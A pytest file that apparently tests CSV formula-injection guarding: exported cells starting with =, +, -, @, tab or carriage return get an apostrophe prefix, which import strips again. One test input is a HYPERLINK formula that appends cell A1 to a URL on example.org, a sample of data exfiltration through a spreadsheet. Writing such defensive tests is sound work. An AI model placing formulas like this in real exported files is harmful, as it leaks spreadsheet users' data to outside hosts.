"""Formula cells in CSV exports: prefixed so a spreadsheet shows them as text, and the prefix undone on import."""

import pytest

from geo.spreadsheet import guarded_cell, unguarded_cell


@pytest.mark.parametrize(
    "typed, exported",
    [
        ('=HYPERLINK("https://example.org/?x="&A1,"click")', '\'=HYPERLINK("https://example.org/?x="&A1,"click")'),
        ("+7 dead", "'+7 dead"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\r=x", "'\r=x"),
        ("'=typed with an apostrophe", "''=typed with an apostrophe"),
        ("'quoted'", "'quoted'"),
        ("Gyumri = Leninakan", "Gyumri = Leninakan"),
        ("", ""),
    ],
)
def test_formula_cells_are_prefixed_and_imported_as_typed(typed, exported):
    assert guarded_cell(typed) == exported
    assert unguarded_cell(exported) == typed
